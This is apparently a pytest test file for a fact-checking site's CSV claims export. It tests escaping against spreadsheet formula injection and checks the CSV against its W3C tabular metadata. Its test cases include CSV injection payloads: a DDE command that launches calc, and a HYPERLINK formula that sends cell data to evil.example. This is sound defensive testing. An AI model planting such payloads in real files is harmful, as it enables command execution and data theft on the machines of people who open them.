"""data/claims.csv: the claims as a table that every program reads and no spreadsheet runs."""

import csv
import re
from dataclasses import replace
from datetime import date
from io import StringIO
from pathlib import Path
from typing import Any, NamedTuple

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cases.tables import each
from cases.written import whole
from factcheck.core.fields import CorrectionKind
from factcheck.core.model import Claim, Correction, Site
from factcheck.publish.table import COLUMNS, SCHEMA_PATH, neutral, original, runs, schemas, written
from factcheck.site.load import Loaded
from strategies import any_texts, often

HEADER = (
    "id,page,article,article_title,article_url,article_published,claim,short,claimant,claimant_type,quote,start,end,"
    "verdict,verdict_label,rating,best_rating,worst_rating,summary,kind,topics,author,reviewed_by,checked,updated,"
    "corrections,sources"
).split(",")
FULL_WIDTH = dict(zip("=+-@", "＝＋－＠", strict=True))


@pytest.fixture(scope="module")
def site(real: Loaded) -> Site:
    assert real.site is not None
    return real.site


def rows(written: str) -> list[dict[str, str]]:
    """A file as a program reads it."""
    reader = csv.DictReader(StringIO(written, newline=""), strict=True)
    found = list(reader)
    assert reader.fieldnames == HEADER
    return found


def with_claim(site: Site, **changes: Any) -> Site:
    return replace(site, claims=(replace(site.claims[0], **changes),))


# What a spreadsheet would run.


class HostileCell(NamedTuple):
    name: str
    cell: str
    is_marked: bool = True


CELLS = [
    HostileCell("a formula", "=1+1"),
    HostileCell("a program", "=cmd|' /C calc'!A0"),
    HostileCell("a link", '=HYPERLINK("https://evil.example/?"&A1,"Error")'),
    HostileCell("a plus", "+1"),
    HostileCell("a minus", "-1+cmd|' /C calc'!A0"),
    HostileCell("an at sign", "@SUM(1+1)"),
    HostileCell("a tab", "\t=1+1"),
    HostileCell("a tab before a word", "\tword"),
    HostileCell("a carriage return", "\r=1+1"),
    HostileCell("a carriage return before a word", "\rword"),
    HostileCell("a line feed before a word", "\nword"),
    HostileCell("a null character", "\0=1+1"),
    HostileCell("spaces before the sign", "   =1+1"),
    HostileCell("a no-break space before the sign", "\u00a0=1+1"),
    HostileCell("an ideographic space before the sign", "\u3000=1+1"),
    HostileCell("a byte order mark before the sign", "\ufeff=1+1"),
    HostileCell("a zero-width space before the sign", "\u200b=1+1"),
    HostileCell("spaces and tabs before the sign", " \t \n@x"),
    HostileCell("a full-width equals sign", "＝1+1"),
    HostileCell("a full-width plus", "＋1"),
    HostileCell("a full-width minus", "－1"),
    HostileCell("a full-width at sign", "＠x"),
    HostileCell("a full-width sign behind spaces", " \u3000＝1"),
    HostileCell("a mark that is the text's own", "'=1+1"),
    HostileCell("two marks that are the text's own", "''=1+1"),
    HostileCell("a bullet", "- a bullet of the article"),
    HostileCell("a number below zero as text", "-12"),
    HostileCell("a quotation that begins with an apostrophe", "'Tis so", is_marked=False),
    HostileCell("a sign inside", "1=1", is_marked=False),
    HostileCell("a sign after a comma", "a,=1+1", is_marked=False),
    HostileCell("a sign in a second line", "a\n=1+1", is_marked=False),
    HostileCell("quotation marks", '"=1+1"', is_marked=False),
    HostileCell("a dash", "— so it is", is_marked=False),
    HostileCell("spaces alone", "   ", is_marked=False),
    HostileCell("nothing", "", is_marked=False),
]


@each(CELLS)
def test_a_cell_that_a_spreadsheet_would_run_gets_a_mark(case: HostileCell) -> None:
    assert neutral(case.cell) == ("'" if case.is_marked else "") + case.cell
    assert original(neutral(case.cell)) == case.cell


@each(CELLS)
def test_every_text_of_a_row_gets_it(case: HostileCell, site: Site) -> None:
    claim = site.claims[0]
    article = replace(claim.article, title=case.cell, claimants={})
    texts = dict.fromkeys(("text", "short", "claimant", "summary", "author", "reviewed_by"), case.cell)
    verdict = replace(claim.verdict, label=case.cell)
    changed = with_claim(site, article=article, topics=(case.cell,), verdict=verdict, **texts)
    (row,) = rows(whole(runs, changed))
    marked = ("article_title", "claim", "short", "claimant", "verdict_label", "summary", "topics", "author")
    assert {row[name] for name in (*marked, "reviewed_by")} == {neutral(case.cell)}


def is_safe(cell: str) -> bool:
    """By a rule of its own: what a spreadsheet leaves away, then the sign."""
    bare = cell.translate(dict.fromkeys(map(ord, "\0\ufeff\u200b"))).lstrip()
    return cell[:1] not in ("\t", "\r", "\n", "\0") and bare[:1] not in (*FULL_WIDTH, *FULL_WIDTH.values(), "\0")


signs = st.text(st.sampled_from("=+-@＝＋－＠'\t\r\n\0 \u00a0\ufeff\u200ba;,\""), max_size=8)


@often
@given(cell=st.one_of(signs, any_texts))
def test_no_cell_is_run_and_every_text_can_be_had_back(cell: str) -> None:
    assert is_safe(neutral(cell)) or not neutral(cell)
    assert original(neutral(cell)) == cell
    assert neutral(cell) == cell or (neutral(cell) == f"'{cell}" and cell)


@often
@given(table=st.lists(st.lists(st.one_of(signs, any_texts), min_size=2, max_size=2), max_size=5))
def test_a_program_reads_what_was_written(table: list[list[str]]) -> None:
    assert list(csv.reader(StringIO(written(table), newline=""), strict=True)) == table


# The file.


def test_the_columns_and_the_ends_of_lines(site: Site) -> None:
    first, *others = whole(runs, site).split("\r\n")
    assert first == ",".join(f'"{name}"' for name in HEADER)
    assert others[-1] == ""
    assert len(others) == 28 + 1  # no quote of the real article holds such a line end
    assert [column.name for column in COLUMNS] == HEADER


def test_every_row_is_the_model_s(site: Site) -> None:
    found = rows(whole(runs, site))
    assert [{name: original(cell) for name, cell in row.items()} for row in found] == [
        expected(claim) for claim in site.claims
    ]
    ids = [row["id"] for row in found]
    assert len(ids) == len(set(ids)) == 28


def expected(claim: Claim) -> dict[str, str]:
    article, verdict = claim.article, claim.verdict
    is_rated = verdict.rating is not None
    return {
        "id": f"{article.slug}/{claim.slug}",
        "page": f"https://example.org/claims/{article.slug}/{claim.slug}/",
        "article": article.slug,
        "article_title": article.title,
        "article_url": article.url,
        "article_published": article.published.isoformat(),
        "claim": claim.text,
        "short": claim.short or "",
        "claimant": claim.claimant,
        "claimant_type": claim.who.type.value if claim.who else "",
        "quote": claim.words,
        "start": str(claim.span.start),
        "end": str(claim.span.end),
        "verdict": verdict.id,
        "verdict_label": verdict.label,
        "rating": str(verdict.rating) if is_rated else "",
        "best_rating": "5" if is_rated else "",
        "worst_rating": "1" if is_rated else "",
        "summary": claim.summary,
        "kind": claim.kind.value,
        "topics": "; ".join(claim.topics),
        "author": claim.author,
        "reviewed_by": claim.reviewed_by or "",
        "checked": claim.checked.isoformat(),
        "updated": claim.updated.isoformat(),
        "corrections": "; ".join(f"{entry.date.isoformat()} {entry.kind.value}" for entry in claim.corrections),
        "sources": "; ".join(dict.fromkeys(entry.source.url for entry in claim.evidence)),
    }


def test_both_kinds_of_claims_are_in_the_real_site(site: Site) -> None:
    assert {row["rating"] == "" for row in rows(whole(runs, site))} == {True, False}


def test_numbers_are_numbers_and_texts_are_texts(site: Site) -> None:
    claim = with_claim(site, text="12", verdict=replace(site.claims[0].verdict, rating=-2))
    below = tuple(
        replace(verdict, rating=None if verdict.rating is None else verdict.rating - 7)
        for verdict in site.settings.scale
    )
    written = whole(runs, replace(claim, settings=replace(site.settings, scale=below)))
    reader = csv.DictReader(StringIO(written, newline=""), quoting=csv.QUOTE_NONNUMERIC)
    (row,) = list(reader)
    assert row["claim"] == "12"
    assert (row["rating"], row["best_rating"], row["worst_rating"]) == (-2.0, -2.0, -6.0)
    assert (row["start"], row["end"]) == site.claims[0].span


def test_an_entry_of_a_list_never_holds_the_separator(site: Site) -> None:
    corrections = tuple(
        Correction(date=date(2027, 1, day), kind=kind, text="One; two; =3")
        for day, kind in ((2, CorrectionKind.MINOR), (3, CorrectionKind.RATING))
    )
    claim = site.claims[0]
    evidence = (*claim.evidence, claim.evidence[0])
    (row,) = rows(
        whole(runs, with_claim(site, topics=("Peace; war", "Money"), corrections=corrections, evidence=evidence))
    )
    assert row["topics"].split("; ") == ["Peace； war", "Money"]
    assert row["corrections"].split("; ") == ["2027-01-02 minor", "2027-01-03 rating"]
    assert row["sources"].split("; ") == [entry.source.url for entry in claim.evidence]


@pytest.mark.parametrize("has_mark", [True, False])
def test_a_byte_order_mark_stands_where_it_is_wanted(site: Site, *, has_mark: bool) -> None:
    marked = replace(site, settings=replace(site.settings, csv_has_mark=has_mark))
    assert whole(runs, marked).startswith("\ufeff") is has_mark
    assert whole(runs, marked).removeprefix("\ufeff") == whole(runs, site)


def test_the_setting_reaches_the_file(built: Path) -> None:
    assert (built / "data/claims.csv").read_bytes().startswith(b'"id","page",')


# Its description: W3C, Metadata Vocabulary for Tabular Data.

FORMS = {
    "string": r"(?s).+",
    "integer": r"-?[0-9]+",
    "date": r"[0-9]{4}-[0-9]{2}-[0-9]{2}",
    "anyURI": r"https?://[^\s]+",
}


def test_the_description_is_found_beside_the_file_and_names_its_columns() -> None:
    (path, description), *others = schemas().items()
    assert others == []
    assert path == SCHEMA_PATH == "data/claims.csv-metadata.json"  # Model for Tabular Data, 5.3: {+url}-metadata.json
    assert isinstance(description, dict)
    assert description["@context"] == ["http://www.w3.org/ns/csvw", {"@language": "en"}]
    assert description["url"] == "claims.csv"
    schema: Any = description["tableSchema"]
    assert [column["name"] for column in schema["columns"]] == HEADER
    assert all(column["titles"] == column["name"] for column in schema["columns"])  # as in the first row
    assert all(len(column["dc:description"]) > 5 for column in schema["columns"])
    assert schema["primaryKey"] == "id"
    allowed = {"name", "titles", "dc:description", "datatype", "required", "separator"}
    assert all(set(column) <= allowed for column in schema["columns"])


def test_every_cell_is_what_the_description_says(site: Site) -> None:
    description: Any = schemas()[SCHEMA_PATH]
    found = rows(whole(runs, site))
    for column in description["tableSchema"]["columns"]:
        cells = [row[column["name"]] for row in found]
        assert all(cells) or not column.get("required", False), column["name"]
        entries = [
            entry
            for cell in cells
            if cell
            for entry in (cell.split(column["separator"]) if "separator" in column else [cell])
        ]
        assert [entry for entry in entries if not re.fullmatch(FORMS[column["datatype"]], entry)] == [], column["name"]
        assert bool(entries) == (column["name"] not in ("reviewed_by", "corrections")), column["name"]
